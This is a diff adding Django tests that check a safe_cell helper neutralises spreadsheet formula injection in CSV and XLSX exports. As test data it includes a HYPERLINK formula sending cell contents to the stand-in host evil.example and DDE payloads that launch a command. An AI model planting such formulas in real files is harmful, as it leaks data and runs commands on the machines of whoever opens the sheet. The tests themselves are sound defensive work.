@@ -5,9 +5,12 @@ import io
 from datetime import date
 
 import openpyxl
+import pytest
 from django.urls import reverse
 
 from medcoop.activities.models import Activity
+from medcoop.conftest import make_partner
+from medcoop.core.exports import safe_cell
 from medcoop.core.permissions import Role
 from medcoop.patients.models import PatientEpisode
 
@@ -56,3 +59,38 @@ def test_an_export_goes_through_the_same_permission_layer(client, users, activit
     assert len(csv_rows(client.get(reverse("activity-list"), {"export": "csv"}))) == 1  # the header only
     client.force_login(users[Role.PARTNER])
     assert client.get(reverse("activity-list"), {"export": "csv"}).status_code == 404
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        (HOSTILE, "'" + HOSTILE),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1.500", "-1.500"),  # a signed number written as text calls nothing
+        ("+84 912 345 678", "+84 912 345 678"),
+        (-5, -5),  # numbers stay numbers
+        (-13.5, -13.5),
+        ("Bệnh viện K = tốt", "Bệnh viện K = tốt"),
+    ],
+)
+def test_a_cell_that_would_start_a_formula_is_neutralised_and_numbers_stay_numbers(value, written):
+    assert safe_cell(value) == written
+
+
+def test_a_partner_named_like_a_formula_is_text_in_the_csv_and_the_xlsx(client, coordinator_a, hospital_a):
+    make_partner(hospital_a, HOSTILE)
+    client.force_login(coordinator_a)
+    rows = csv_rows(client.get(reverse("organization-list"), {"export": "csv"}))
+    assert ["'" + HOSTILE] == [r[0] for r in rows[1:] if HOSTILE in r[0]]
+    response = client.get(reverse("organization-list"), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and HOSTILE in str(cell.value)]
+    assert [(c.value, c.data_type) for c in cells] == [("'" + HOSTILE, "s")]
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
